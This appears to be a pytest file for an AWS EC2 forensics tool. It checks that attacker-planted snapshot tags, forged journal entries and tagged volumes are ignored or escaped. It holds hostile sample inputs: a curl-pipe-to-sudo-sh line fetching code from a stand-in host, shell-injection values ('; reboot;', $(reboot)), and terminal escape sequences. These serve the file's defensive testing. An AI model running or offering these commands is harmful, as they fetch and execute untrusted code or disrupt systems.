"""Forensic volumes from hostile input: snapshots anyone can tag with the case, tag values that
carry shell lines and terminal escapes, and journal entries that disagree with EC2.

The attacker is assumed able to tag resources in the account; what ``forensics attach`` copies to
the workstation, and the lines it asks the responder to paste into a root shell there, must not
depend on a tag.
"""

from __future__ import annotations

import pytest

from ec2ir.core.errors import UsageError
from ec2ir.core.models import EvidenceRef, JournalEntry
from ec2ir.evidence.forensics import attach, detach, mount_commands, render_attach
from ec2ir.evidence.snapshots import TAG_CASE, TAG_DEVICE, TAG_INSTANCE
from ec2ir.store.items import now
from tests.support.forensic_scene import ACTOR, CASE, Scene, zone_of

pytestmark = pytest.mark.evidence  # about evidence: its runs collect it

INJECTED = "curl -s http://203.0.113.9/x | sudo sh"
# EC2 answers in XML, which cannot carry ESC, BEL or backspace; a C1 CSI (ESC [ in one byte, acted
# on by many terminals) and a right-to-left override can be, and so can a newline.
TAG_CONTROLS = "\x9b2J\u202e"
HOSTILE_CONTROLS = ("\x1b", "\x07", "\x08", "\x9b", "\u202e")


def plant_snapshot(scene: Scene, tags: dict[str, str]) -> str:
    """A snapshot of a volume of the attacker's own, tagged as they like."""
    ec2 = scene.ec2
    volume = ec2.create_volume(Size=1, AvailabilityZone=zone_of(scene.aws, scene.compromised))["VolumeId"]
    return str(
        ec2.create_snapshot(
            VolumeId=volume,
            TagSpecifications=[
                {"ResourceType": "snapshot", "Tags": [{"Key": k, "Value": v} for k, v in tags.items()]}
            ],
        )["SnapshotId"]
    )


def copied_snapshots(scene: Scene) -> set[str]:
    return {volume["SnapshotId"] for volume in scene.copies()}


def assert_inert(text: str) -> None:
    """No line a shell would run that ec2ir did not write, and nothing a terminal acts on."""
    assert not any(line.lstrip().startswith(("curl", "sudo sh")) for line in text.splitlines()), text
    assert not any(control in text for control in HOSTILE_CONTROLS), repr(text)


def test_a_snapshot_tagged_with_the_case_but_not_journaled_is_ignored_and_named(scene: Scene) -> None:
    planted = plant_snapshot(
        scene,
        {
            TAG_CASE: CASE,
            TAG_INSTANCE: f"{scene.compromised}\n{INJECTED}\n#",
            TAG_DEVICE: f"/dev/sdf{TAG_CONTROLS}",
        },
    )

    report = attach(scene.aws, scene.store, CASE, scene.workstation, ACTOR)

    assert report.ok, report.as_dict()
    assert sorted(copy.snapshot_id for copy in report.copies) == scene.snapshots
    assert planted not in copied_snapshots(scene)
    assert {copy.source_instance for copy in report.copies} == {scene.compromised}
    [note] = [note for note in report.notes if planted in note]
    assert "the case journal does not name it" in note
    assert f"\\n{INJECTED}\\n#" in note and "/dev/sdf\\x9b2J\\u202e" in note  # shown, escaped
    text = render_attach(report)
    assert_inert(text)
    assert sum(line.startswith("# vol-") for line in text.splitlines()) == 2
    for copy in report.copies:
        assert all("\n" not in line for line in copy.mount_commands)


def test_a_journal_entry_that_disagrees_with_ec2_gets_nothing_copied(scene: Scene) -> None:
    """Whoever can write to the state table can name a planted snapshot in the journal; EC2 still
    says which volume it was taken of, and that volume is not the one the entry claims."""
    planted = plant_snapshot(scene, {TAG_CASE: CASE, TAG_INSTANCE: scene.compromised})
    real_volume = scene.ec2.describe_snapshots(SnapshotIds=[scene.snapshots[0]])["Snapshots"][0]["VolumeId"]
    claim = EvidenceRef(
        "snapshot",
        planted,
        details={"volume_id": real_volume, "device": "/dev/sdf", "instance_id": scene.compromised},
    )
    scene.store.append(
        [
            JournalEntry(
                now(), CASE, ACTOR, scene.compromised, "isolate:snapshots", "done: 1", evidence=(claim,)
            )
        ]
    )

    report = attach(scene.aws, scene.store, CASE, scene.workstation, ACTOR)

    assert sorted(copy.snapshot_id for copy in report.copies) == scene.snapshots
    assert planted not in copied_snapshots(scene)
    [note] = [note for note in report.notes if planted in note]
    assert "does not match the case journal" in note


def test_a_journaled_snapshot_whose_instance_tag_was_changed_is_not_copied(scene: Scene) -> None:
    altered = scene.snapshots[0]
    scene.ec2.create_tags(Resources=[altered], Tags=[{"Key": TAG_INSTANCE, "Value": f"i-0\n{INJECTED}"}])

    report = attach(scene.aws, scene.store, CASE, scene.workstation, ACTOR)

    assert [copy.snapshot_id for copy in report.copies] == scene.snapshots[1:]
    [note] = [note for note in report.notes if altered in note]
    assert "does not match the case journal" in note and "\n" not in note
    assert_inert(render_attach(report))


def test_only_planted_snapshots_is_no_snapshot_at_all(scene: Scene) -> None:
    other_case = "IR-2026-0099"
    plant_snapshot(scene, {TAG_CASE: other_case, TAG_INSTANCE: scene.compromised})

    with pytest.raises(UsageError, match=f"case {other_case} has no snapshots") as raised:
        attach(scene.aws, scene.store, other_case, scene.workstation, ACTOR)

    assert "1 left out" in raised.value.hint
    assert scene.copies() == []


@pytest.mark.parametrize(
    ("volume_id", "device"),
    [
        (f"vol-0abc\n{INJECTED}", "/dev/sdh"),
        ("vol-0abc'; reboot; '", "/dev/sdh"),
        ("vol-0abc", "/dev/sdh$(reboot)"),
        ("vol-0abc", "/dev/sdh\n" + INJECTED),
    ],
)
def test_mount_commands_refuse_what_they_cannot_print_safely(volume_id: str, device: str) -> None:
    with pytest.raises(ValueError):
        mount_commands(CASE, volume_id, device)


def test_even_a_snapshot_planted_in_both_ec2_and_the_journal_prints_no_command_of_its_own(
    scene: Scene,
) -> None:
    """An attacker who can tag snapshots and write to the state table can get a snapshot copied;
    what the journal says of it is still printed on one comment line, escaped."""
    planted = plant_snapshot(scene, {TAG_CASE: CASE, TAG_INSTANCE: scene.compromised})
    volume = scene.ec2.describe_snapshots(SnapshotIds=[planted])["Snapshots"][0]["VolumeId"]
    device = f"/dev/sdf\x1b[2J\x07\x08\n{INJECTED}\n"
    claim = EvidenceRef(
        "snapshot", planted, details={"volume_id": volume, "device": device, "instance_id": scene.compromised}
    )
    scene.store.append(
        [
            JournalEntry(
                now(), CASE, ACTOR, scene.compromised, "isolate:snapshots", "done: 1", evidence=(claim,)
            )
        ]
    )

    report = attach(scene.aws, scene.store, CASE, scene.workstation, ACTOR)

    assert planted in {copy.snapshot_id for copy in report.copies}
    text = render_attach(report)
    assert_inert(text)
    [header] = [line for line in text.splitlines() if line.startswith("# ") and planted in line]
    assert "/dev/sdf\\x1b[2J\\x07\\x08\\n" + INJECTED in header


def copy_tags(scene: Scene, snapshot_id: str, workstation: bool) -> list[dict[str, str]]:
    tags = {"ec2ir:case": CASE, "ec2ir:role": "forensic-copy", "ec2ir:snapshot": snapshot_id}
    if workstation:
        tags["ec2ir:workstation"] = scene.workstation
    return [{"Key": k, "Value": v} for k, v in tags.items()]


def test_detach_never_deletes_a_volume_that_was_not_made_from_the_case_s_snapshots(scene: Scene) -> None:
    """Tagging a production volume as a copy of the case must not get it detached and deleted."""
    production, device = next(iter(scene.workstation_volumes.items()))
    scene.ec2.create_tags(
        Resources=[production], Tags=copy_tags(scene, scene.snapshots[0], workstation=False)
    )
    attach(scene.aws, scene.store, CASE, scene.workstation, ACTOR)

    report = detach(scene.aws, scene.store, CASE, ACTOR)

    assert report.ok
    assert production not in {copy.volume_id for copy in report.copies}
    assert scene.attached_to_workstation() == scene.workstation_volumes  # still there, still attached
    assert scene.attached_to_workstation()[production] == device
    assert any(note.startswith(f"left {production} alone") for note in report.notes), report.notes
    assert len(report.copies) == 2 and all(copy.snapshot_id in scene.snapshots for copy in report.copies)


def test_a_volume_tagged_as_an_existing_copy_is_never_attached_as_evidence(scene: Scene) -> None:
    """A volume of the attacker's, tagged as the copy of a case snapshot for this workstation, would
    be attached as that copy, and its contents examined as evidence."""
    zone = scene.workstation_zone
    forged = scene.ec2.create_volume(
        Size=1,
        AvailabilityZone=zone,
        TagSpecifications=[{"ResourceType": "volume", "Tags": copy_tags(scene, scene.snapshots[0], True)}],
    )["VolumeId"]

    report = attach(scene.aws, scene.store, CASE, scene.workstation, ACTOR)

    assert report.ok
    assert forged not in scene.attached_to_workstation()
    for copy in report.copies:
        made_from = scene.ec2.describe_volumes(VolumeIds=[copy.volume_id])["Volumes"][0]["SnapshotId"]
        assert made_from == copy.snapshot_id
